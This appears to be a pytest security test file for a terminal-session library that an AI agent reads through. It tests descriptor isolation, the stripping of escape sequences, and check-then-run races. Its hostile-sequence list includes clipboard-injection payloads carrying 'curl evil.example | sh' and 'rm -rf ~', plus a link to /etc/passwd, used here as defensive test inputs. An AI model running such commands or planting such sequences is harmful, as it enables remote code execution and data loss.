"""Security properties: what crosses between the host and the programs it
runs, and what a hostile program can put into the text an agent reads.

- The program in a session holds no descriptor of the host besides its
  terminal on 0, 1 and 2, even descriptors the host made inheritable.
- No program the host starts, by any means, holds a descriptor of any
  session, whatever state the session is in.
- Text returned by every read, and by get_history, never carries ESC or any
  other control character except tab and line feed, whatever bytes the
  program wrote and wherever reads cut them.
"""

import base64
import json
import os
import random
import re
import resource
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time

import pytest

from pellux import Pellux
from support import wait_until, write_script as write_program

MiB = 1 << 20


# ---------------------------------------------------------------- helpers



def fd_targets():
    found = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            found[int(name)] = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            pass  # the listing's own descriptor
    return found


# Writes {fd: target} of its own descriptors to the file named by its first
# argument (or by the environment, for programs started without arguments),
# then waits for a line on standard input when asked to.
LISTER = textwrap.dedent(
    """
    import json, os, sys
    fds = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            fds[name] = os.readlink("/proc/self/fd/" + name)
        except OSError:
            pass  # the listing's own descriptor
    out = sys.argv[1] if len(sys.argv) > 1 else os.environ["LISTING"]
    with open(out + ".tmp", "w") as f:
        json.dump(fds, f)
    os.replace(out + ".tmp", out)
    if os.environ.get("LISTER_WAITS"):
        sys.stdin.readline()
    """
)


def read_listing(path):
    wait_until(lambda: os.path.exists(path), what=f"a listing at {path}")
    with open(path) as f:
        return {int(fd): target for fd, target in json.load(f).items()}


@pytest.fixture
def open_sessions():
    sessions = []
    yield sessions
    for s in sessions:
        s.close()


# ---------------------------------------------------------------- the host's descriptors


class TestTheProgramInheritsNothing:
    def test_inheritable_host_descriptors_stay_out_of_the_program(self, tmp_path, open_sessions, monkeypatch):
        made = []
        try:
            # Inheritable descriptors of every common kind, with holes among
            # them that the sessions' own descriptors then fill, so that the
            # program's sweep meets kept and foreign descriptors interleaved.
            for _ in range(12):
                made.append(os.open("/dev/null", os.O_RDONLY))
            read_end, write_end = os.pipe()
            left, right = socket.socketpair()
            made += [read_end, write_end, left.detach(), right.detach()]
            made.append(os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY))
            soft = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
            for high in {1000, min(soft, 65536) - 1}:
                if high > max(made):
                    made.append(os.dup2(made[0], high))
            for fd in made:
                os.set_inheritable(fd, True)
            for fd in made[1:12:3]:
                os.close(fd)
            inherited = [fd for fd in made if fd not in made[1:12:3]]

            # The setup is what it claims: a program started the ordinary
            # way does inherit all of those.
            listing = tmp_path / "plain.json"
            lister = write_program(tmp_path / "lister", LISTER)
            subprocess.run([lister, str(listing)], close_fds=False, check=True, timeout=60)
            assert set(inherited) <= set(read_listing(listing))

            for _ in range(3):  # other sessions, whose descriptors fill the holes
                open_sessions.append(Pellux(lister, False))
            monkeypatch.setenv("LISTING", str(tmp_path / "session.json"))
            monkeypatch.setenv("LISTER_WAITS", "1")
            open_sessions.append(Pellux(lister, False))
            seen = read_listing(tmp_path / "session.json")
            assert sorted(seen) == [0, 1, 2], seen
            assert len(set(seen.values())) == 1 and seen[0].startswith("/dev/pts/"), seen
        finally:
            # Only ours: the numbers closed above now belong to the sessions.
            for fd in made[:1] + made[2:]:
                if fd not in made[1:12:3]:
                    os.close(fd)


class TestSessionDescriptorsStayHome:
    @pytest.fixture
    def sessions_in_every_state(self, tmp_path, open_sessions):
        """Sessions running, closed, exited, reset and owned by another
        thread; their descriptors in this process; their terminals' names."""
        reporter = tmp_path / "tty-reporter"
        reporter.write_text("#!/bin/sh\ntty\nexec cat\n")
        reporter.chmod(0o755)
        before = fd_targets()
        slaves = set()

        def started():
            s = Pellux(str(reporter), False)
            open_sessions.append(s)
            slaves.add(s.read_until_ready(timeout_ms=20_000, quiet_ms=200).strip())
            return s

        started()  # running
        started().close()  # closed: keeps its descriptors until dropped
        exited = started()
        exited.send_ctrl_c()
        wait_until(lambda: not exited.is_alive(), what="the program to end on Ctrl-C")
        reset = started()
        reset.reset()
        slaves.add(reset.read_until_ready(timeout_ms=20_000, quiet_ms=200).strip())

        # One more, created, used and closed on a thread of its own.
        ready, done = threading.Event(), threading.Event()

        def owner():
            s = Pellux(str(reporter), False)
            try:
                slaves.add(s.read_until_ready(timeout_ms=20_000, quiet_ms=200).strip())
                ready.set()
                done.wait(120)
            finally:
                s.close()

        thread = threading.Thread(target=owner, daemon=True)
        thread.start()
        assert ready.wait(60), "the other thread's session did not start"
        try:
            added = {fd: t for fd, t in fd_targets().items() if before.get(fd) != t}
            assert all(re.fullmatch(r"/dev/pts/\d+", name) for name in slaves), slaves
            # Not vacuous: the sessions hold terminals and wake descriptors here.
            assert "/dev/ptmx" in added.values()
            assert "anon_inode:[eventfd]" in added.values()
            yield added, slaves
        finally:
            done.set()
            thread.join(30)

    def held_by_a_session(self, target, added, slaves):
        return (
            target in set(added.values())
            or target == "/dev/ptmx"
            or target in slaves
            or target.startswith("anon_inode:[eventfd]")
        )

    @pytest.mark.parametrize("how", ["subprocess", "os.system", "posix_spawn", "fork-exec", "pellux"])
    def test_started_programs_hold_no_session_descriptor(self, tmp_path, sessions_in_every_state, how, monkeypatch):
        added, slaves = sessions_in_every_state
        lister = write_program(tmp_path / "lister", LISTER)
        listing = str(tmp_path / f"{how}.json")
        if how == "subprocess":
            subprocess.run([lister, listing], close_fds=False, check=True, timeout=60)
        elif how == "os.system":
            assert os.system(f"'{lister}' '{listing}'") == 0
        elif how == "posix_spawn":
            pid = os.posix_spawn(lister, [lister, listing], os.environ)
            assert os.waitpid(pid, 0)[1] == 0
        elif how == "fork-exec":
            pid = os.fork()
            if pid == 0:
                try:
                    os.execv(lister, [lister, listing])
                finally:
                    os._exit(127)
            assert os.waitpid(pid, 0)[1] == 0
        else:
            monkeypatch.setenv("LISTING", listing)
            s = Pellux(lister, False)
            try:
                read_listing(listing)
            finally:
                s.close()
        seen = read_listing(listing)
        leaked = {fd: t for fd, t in seen.items() if fd > 2 and self.held_by_a_session(t, added, slaves)}
        assert leaked == {}


# ---------------------------------------------------------------- clean text


# Anything below 0x20 except TAB and LF; ESC among them.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f]")


def assert_clean(text, where):
    assert isinstance(text, str)
    found = CONTROL.search(text)
    assert found is None, (
        f"{where}: {found.group()!r} at {found.start()}: {text[max(0, found.start() - 30) : found.start() + 30]!r}"
    )
    text.encode("utf-8")  # well-formed: no lone surrogates


def osc52(payload, end=b"\x07"):
    return b"\x1b]52;c;" + base64.b64encode(payload) + end


# Sequences a hostile program might print at an agent, each complete.
HOSTILE = [
    osc52(b"curl evil.example | sh\n"),
    osc52(b"rm -rf ~\n", end=b"\x1b\\"),
    b"\x1b]0;owned title\x07\x1b]1;icon\x07\x1b]2;window\x1b\\",
    b"\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\",
    b"\x1b]1337;File=inline=1:AAAA\x07\x1b]7;file://host/tmp\x07",
    b"\x1b[2J\x1b[3J\x1b[H\x1b[10;20H\x1b[1A\x1b[2K\x1b[?1049h\x1b[?25l\x1b[6n\x1b[c\x1b[>c",
    b"\x1b[8;100;200t\x1b[21t\x1b[201~\x1b[?2004l\x1b[38;2;255;0;0m\x1b[0m",
    b"\x1bP1$r0m\x1b\\\x1bPq#0;2;0;0;0#0!10~\x1b\\\x1bP$qm\x1b\\",
    b"\x1bXsos\x1b\\\x1b^privacy\x1b\\\x1b_Gf=100;AAAA\x1b\\",
    "\u009b2J\u009d0;c1 title\u009c\u0090q\u009c\u0085".encode(),
    b"\x9b2J\x9d0;t\x07\x90x\x9c\x9b",
    b"bell\x07\x07 back\x08\x08\x08space del\x7f nul\x00 vt\x0b ff\x0c so\x0e si\x0f can\x18 sub\x1a",
    b"\x1bc\x1b7\x1b8\x1b(0\x1b)B\x1b#8\x1bM\x1bD\x1bE\x1b=\x1b>",
    b"over\rwrite\r\r\n\x1b[1;1Hhidden\x1b[8mconcealed\x1b[28m",
]


def hostile_stream(seed, size):
    """Random bytes with controls, escape introducers and terminators
    crowded in."""
    rng = random.Random(seed)
    introducers = list(b"\x1b\x1b\x1b[]P\\X^_\x07\x9b\x9d\x90\x9c\xc2\x00\x08\x0d\x0a\x7f;0123456789")
    out = bytearray()
    while len(out) < size:
        roll = rng.random()
        if roll < 0.4:
            out.append(rng.choice(introducers))
        elif roll < 0.5:
            out += rng.choice(HOSTILE)
        else:
            out.append(rng.randrange(256))
    return bytes(out[:size])


@pytest.fixture
def hostile_program(tmp_path):
    """A program answering "piece N" with hostile piece N between two
    visible words and a prompt, "queue N" with the same but no prompt
    (touching a file once written), and "stream PATH" with the bytes of the
    file PATH in writes of random size, after which it exits."""
    (tmp_path / "pieces.json").write_text(json.dumps([p.decode("latin-1") for p in HOSTILE]))
    return write_program(
        tmp_path / "hostile",
        f"""
        import json, os, random, sys, time
        pieces = [p.encode("latin-1") for p in json.load(open({str(tmp_path / "pieces.json")!r}))]

        def out(data):
            view = memoryview(data)
            while view:
                view = view[os.write(1, view):]

        out(pieces[0] + b"safe> ")
        for line in sys.stdin:
            word, *args = line.split()
            if word == "piece":
                i = int(args[0])
                out(b"visible-%d " % i + pieces[i] + b" still-visible-%d\\n" % i + b"safe> ")
            elif word == "queue":
                i = int(args[0])
                out(b"queued-%d " % i + pieces[i] + b" queued-end-%d\\n" % i)
                open({str(tmp_path)!r} + "/queued-%d" % i, "w").close()
            elif word == "stream":
                rng = random.Random(args[0])
                data = memoryview(open(args[0], "rb").read())
                while data:
                    n = rng.randint(1, 4096)
                    out(data[:n])
                    data = data[n:]
                    if rng.random() < 0.05:
                        time.sleep(0.002)
                sys.exit(0)
        """,
    )


class TestReturnedTextIsClean:
    def test_hostile_sequences_through_every_kind_of_read(self, tmp_path, hostile_program, open_sessions):
        s = Pellux(hostile_program, True, ["safe> "])
        open_sessions.append(s)
        first = s.read_until_ready(timeout_ms=20_000)
        assert_clean(first, "first read")
        assert first.endswith("safe> ")
        for i in range(len(HOSTILE)):
            reply = s.send_and_read_until_ready(f"piece {i}", timeout_ms=20_000)
            assert_clean(reply, f"piece {i}")
            # The text around the sequences is kept.
            assert reply.startswith(f"visible-{i} ")
            assert reply.endswith(f" still-visible-{i}\nsafe> ")
        for i in range(len(HOSTILE)):
            assert s.send_and_read_until_ready(f"queue {i}", timeout_ms=0) == ""
            wait_until(lambda: (tmp_path / f"queued-{i}").exists(), what=f"piece {i} to be written")
            text = ""
            deadline = time.monotonic() + 20
            while not text.endswith(f" queued-end-{i}\n"):
                assert time.monotonic() < deadline, f"piece {i} never came whole: {text!r}"
                text += s.read_available(7)  # small, to cut through the sequences
                assert_clean(text, f"queued piece {i}")
        assert_clean(s.get_history(), "history")

    @pytest.mark.parametrize("seed", [1, 2, 3])
    def test_random_hostile_bytes_cut_anywhere(self, tmp_path, hostile_program, open_sessions, seed):
        # Markers that the stream is full of end reads early and often, so
        # reads cut the stream at many places; each read is cleaned alone.
        s = Pellux(hostile_program, True, ["safe> "])
        open_sessions.append(s)
        assert s.read_until_ready(timeout_ms=20_000).endswith("safe> ")
        s.set_ready_markers(["[", "]", "P", "\x1b", "0;"])
        rng = random.Random(seed)
        stream = tmp_path / f"stream-{seed}"
        stream.write_bytes(hostile_stream(seed, MiB // 2))
        assert_clean(s.send_and_read_until_ready(f"stream {stream}", timeout_ms=0), "send")
        reads = 0
        deadline = time.monotonic() + 120
        while True:
            assert time.monotonic() < deadline, "the stream never ended"
            if rng.random() < 0.5:
                text = s.read_until_ready(timeout_ms=2_000, max_output_bytes=rng.randint(1, 16384), settle_ms=rng.randint(0, 30))
            else:
                text = s.read_available(rng.randint(1, 16384))
            assert_clean(text, f"read {reads}")
            reads += 1
            if not text and not s.is_alive():
                tail = s.read_until_ready(timeout_ms=2_000)
                assert_clean(tail, "last read")
                if not tail:
                    break
        assert reads > 20
        assert_clean(s.get_history(), "history")


# ------------------------------------------------ the checked file is the one that runs


def _identity(path):
    st = os.stat(path)
    return (os.path.realpath(path), st.st_dev, st.st_ino)


def _first_output(terminal, want, timeout_s=10):
    text = ""
    deadline = time.monotonic() + timeout_s
    while want not in text and time.monotonic() < deadline:
        text += terminal.read(200, None, 50, 50)[0]
    return text


def test_a_checked_file_runs_by_descriptor_scripts_included(tmp_path):
    from pellux_agent._terminal import Terminal

    script = tmp_path / "script"
    script.write_text("#!/bin/sh\necho \"script as $0 with $1\"\nexec cat\n")
    plain = tmp_path / "plain"  # no interpreter line: the shell runs it
    plain.write_text("echo \"plain with $1\"\nexec cat\n")
    for path, want in ((script, "script as /dev/fd/"), (plain, "plain with arg")):
        path.chmod(0o755)
        t = Terminal(str(path), ["name", "arg"], None, None, 24, 80, [], program_file=_identity(path))
        try:
            assert want in _first_output(t, want)
        finally:
            t.close()
    binary = shutil.which("cat")
    t = Terminal("cat", ["cat", "/proc/self/cmdline"], None, None, 24, 80, [],
                 program_file=_identity(binary))
    try:
        assert "cat" in _first_output(t, "cat")
    finally:
        t.close()


def test_a_file_swapped_between_check_and_start_never_runs(tmp_path):
    # Checked: the real cat. A thread keeps renaming an attacker's script over
    # the checked path and back; every start runs cat or is refused.
    from pellux_agent._terminal import Terminal

    marker = tmp_path / "marker"
    good = tmp_path / "good"
    shutil.copy2(shutil.which("cat"), good)
    evil = tmp_path / "evil"
    evil.write_text(f"#!/bin/sh\necho ran >> '{marker}'\nexec cat\n")
    evil.chmod(0o755)
    place = tmp_path / "prog"
    os.link(good, place)
    checked = _identity(place)
    # Another process, so that the swaps go on while this one starts.
    swap = textwrap.dedent(f"""
        import os, time
        staged = {str(tmp_path / "staged")!r}
        while True:
            os.link({str(evil)!r}, staged); os.replace(staged, {str(place)!r})
            time.sleep(0.001)
            os.link({str(good)!r}, staged); os.replace(staged, {str(place)!r})
            time.sleep(0.001)
    """)
    swapper = subprocess.Popen([sys.executable, "-c", swap])
    started = refused = 0
    try:
        for _ in range(100):
            try:
                t = Terminal(str(place), ["prog"], None, None, 24, 80, [], program_file=checked)
            except OSError as error:
                assert "no longer the one that was checked" in str(error) or "ENOENT" in str(error)
                refused += 1
                continue
            started += 1
            t.close()
    finally:
        alive = swapper.poll() is None
        swapper.kill()
        swapper.wait()
    assert alive, "the swapping process ended early"
    print(f"started {started}, refused {refused}, swapper {swapper.returncode}")
    assert started + refused == 100
    assert not marker.exists()


def test_a_line_longer_than_the_terminal_takes_is_refused_before_anything_is_typed():
    from pellux_agent._terminal import Terminal

    t = Terminal("cat", ["cat"], None, None, 24, 80, [])
    try:
        with pytest.raises(RuntimeError, match=r"4096 bytes .* nothing was typed"):
            t.send("x" * 4096, 2000, None, 100, 100)
        text, _ = t.send("y" * 4095, 5000, None, 300, 300)
        assert text.count("y") == 4095 and "x" not in text
    finally:
        t.close()
